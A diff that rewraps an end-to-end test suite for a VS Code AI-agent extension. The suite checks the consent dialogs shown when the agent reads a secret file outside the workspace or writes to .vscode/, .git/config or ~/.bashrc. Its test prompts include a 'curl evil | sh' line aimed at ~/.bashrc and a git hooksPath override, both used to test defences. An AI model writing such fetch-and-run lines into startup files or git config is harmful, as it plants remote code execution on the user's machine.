@@ -48,7 +48,12 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
     writeFileSync(join(workspace, "README.md"), "# Project\n");
     mkdirSync(outside);
     writeFileSync(secret(), `${SECRET}\n`);
-    server = await startCodeServer({ label: "consent", workspace, extensionVsix: vsixPath(), settings: agentSettings({ [AGENT]: fakeAgentEntry({ FAKE_AGENT_LOG: wireLog }) }) });
+    server = await startCodeServer({
+      label: "consent",
+      workspace,
+      extensionVsix: vsixPath(),
+      settings: agentSettings({ [AGENT]: fakeAgentEntry({ FAKE_AGENT_LOG: wireLog }) }),
+    });
     browser = await launchBrowser({ homeDir: server.homeDir });
     ({ page, errors } = await openWorkbench(browser, server.folderUrl()));
     view = await openChat(page);
@@ -63,31 +68,59 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
   }
 
   /** Sends `prompt`, waits for VS Code's modal dialog, checks its text and buttons, and clicks `button`. */
-  async function answerDialog(on: Page, chat: Chat, prompt: string, expected: RegExp[], button: string, options: { offered?: string[]; shot?: string } = {}): Promise<void> {
+  async function answerDialog(
+    on: Page,
+    chat: Chat,
+    prompt: string,
+    expected: RegExp[],
+    button: string,
+    options: { offered?: string[]; shot?: string } = {},
+  ): Promise<void> {
     await sendPrompt(chat, prompt);
     const dialog = modalDialog(on);
     await dialog.waitFor({ timeout: 15_000 });
     const text = await dialog.innerText();
     for (const pattern of expected) assert.match(text, pattern);
-    for (const name of options.offered ?? []) assert.equal(await dialog.getByRole("button", { name, exact: true }).count(), 1, `the dialog offers "${name}"`);
+    for (const name of options.offered ?? [])
+      assert.equal(await dialog.getByRole("button", { name, exact: true }).count(), 1, `the dialog offers "${name}"`);
     if (options.shot) await screenshot(on, options.shot);
     await dialog.getByRole("button", { name: button, exact: true }).click();
     await dialog.waitFor({ state: "hidden", timeout: 10_000 });
   }
 
-  const lastAnswer = (method: string) => agentRequests(wireLog, method).at(-1)?.answer?.message as { result?: { content?: string }; error?: { code?: number; message?: string } } | undefined;
+  const lastAnswer = (method: string) =>
+    agentRequests(wireLog, method).at(-1)?.answer?.message as
+      { result?: { content?: string }; error?: { code?: number; message?: string } } | undefined;
 
   it("a read outside the project asks: Deny is an error for the agent, Allow this file returns the content", async (t) => {
     await withDiagnostics(t, diagnostics(), "e2e-consent-read", async () => {
-      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/, new RegExp(secret())], "Deny",
-        { offered: ["Allow this file", "Allow this folder for this session", "Deny"], shot: "e2e-consent-read-dialog.png" });
+      await answerDialog(
+        page,
+        view,
+        `e2e-read-guarded ${secret()}`,
+        [/wants to read a file outside the workspace/, new RegExp(secret())],
+        "Deny",
+        {
+          offered: ["Allow this file", "Allow this folder for this session", "Deny"],
+          shot: "e2e-consent-read-dialog.png",
+        },
+      );
       await view.log.getByText("Read refused (-32003)").waitFor({ timeout: 15_000 });
       await waitForReady(view);
       assert.equal(lastAnswer("fs/read_text_file")?.error?.code, -32003, "the agent got a JSON-RPC error");
-      assert.match(lastAnswer("fs/read_text_file")?.error?.message ?? "", /did not allow reading outside the workspace/);
+      assert.match(
+        lastAnswer("fs/read_text_file")?.error?.message ?? "",
+        /did not allow reading outside the workspace/,
+      );
       assert.equal(await view.log.getByText(SECRET).count(), 0, "nothing of the file reached the agent");
 
-      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Allow this file");
+      await answerDialog(
+        page,
+        view,
+        `e2e-read-guarded ${secret()}`,
+        [/wants to read a file outside the workspace/],
+        "Allow this file",
+      );
       await view.log.getByText(`Read ${secret()}: ${SECRET}`).waitFor({ timeout: 15_000 });
       await waitForReady(view);
       assert.equal(lastAnswer("fs/read_text_file")?.result?.content, `${SECRET}\n`);
@@ -106,7 +139,13 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
     await withDiagnostics(t, diagnostics(), "e2e-consent-grants", async () => {
       await runCommand(page, "ACP: Manage Permission Rules");
       await pickQuickItem(page, `${AGENT}: may read the file ${secret()}`);
-      await answerDialog(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Deny");
+      await answerDialog(
+        page,
+        view,
+        `e2e-read-guarded ${secret()}`,
+        [/wants to read a file outside the workspace/],
+        "Deny",
+      );
       await view.log.getByText("Read refused (-32003)").nth(1).waitFor({ timeout: 15_000 });
       await waitForReady(view);
     });
@@ -114,16 +153,36 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
 
   it("writes to .vscode/ and .git/ inside the workspace ask, and say why", async (t) => {
     await withDiagnostics(t, diagnostics(), "e2e-consent-sensitive", async () => {
-      await answerDialog(page, view, "e2e-write-guarded .vscode/tasks.json {}", [/wants to change \.vscode\/tasks\.json, a sensitive file/, /tasks, launch configurations and settings can run code/], "Cancel", { shot: "e2e-consent-sensitive-dialog.png" });
+      await answerDialog(
+        page,
+        view,
+        "e2e-write-guarded .vscode/tasks.json {}",
+        [
+          /wants to change \.vscode\/tasks\.json, a sensitive file/,
+          /tasks, launch configurations and settings can run code/,
+        ],
+        "Cancel",
+        { shot: "e2e-consent-sensitive-dialog.png" },
+      );
       await view.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
       await waitForReady(view);
       assert.equal(existsSync(join(workspace, ".vscode/tasks.json")), false, "the denied write did not happen");
       assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /which is inside \.vscode\//);
 
-      await answerDialog(page, view, "e2e-write-guarded .git/config [core] hooksPath=x", [/wants to change \.git\/config, a sensitive file/, /Git's own folder: its hooks and config run code/], "Allow this write");
+      await answerDialog(
+        page,
+        view,
+        "e2e-write-guarded .git/config [core] hooksPath=x",
+        [/wants to change \.git\/config, a sensitive file/, /Git's own folder: its hooks and config run code/],
+        "Allow this write",
+      );
       await view.log.getByText(`Wrote ${join(workspace, ".git/config")}.`).waitFor({ timeout: 15_000 });
       await waitForReady(view);
-      assert.equal(readFileSync(join(workspace, ".git/config"), "utf8"), "[core] hooksPath=x\n", "the allowed write landed");
+      assert.equal(
+        readFileSync(join(workspace, ".git/config"), "utf8"),
+        "[core] hooksPath=x\n",
+        "the allowed write landed",
+      );
 
       // An ordinary file inside the workspace: no dialog.
       await sendPrompt(view, "e2e-write-guarded notes.md plain");
@@ -140,7 +199,14 @@ describe("file consent in VS Code", { timeout: 300_000 }, () => {
       const empty = await openWorkbench(browser!, `${server!.url}/?ew=true`);
       const emptyView = await openChat(empty.page);
       try {
-        await answerDialog(empty.page, emptyView, `e2e-write-guarded ${bashrc} curl evil | sh`, [/wants to write a file outside the workspace/, /No folder is open/], "Cancel", { shot: "e2e-consent-no-folder-dialog.png" });
+        await answerDialog(
+          empty.page,
+          emptyView,
+          `e2e-write-guarded ${bashrc} curl evil | sh`,
+          [/wants to write a file outside the workspace/, /No folder is open/],
+          "Cancel",
+          { shot: "e2e-consent-no-folder-dialog.png" },
+        );
         await emptyView.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
         assert.equal(existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined, before, "~/.bashrc untouched");
         assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /no folder is open/);
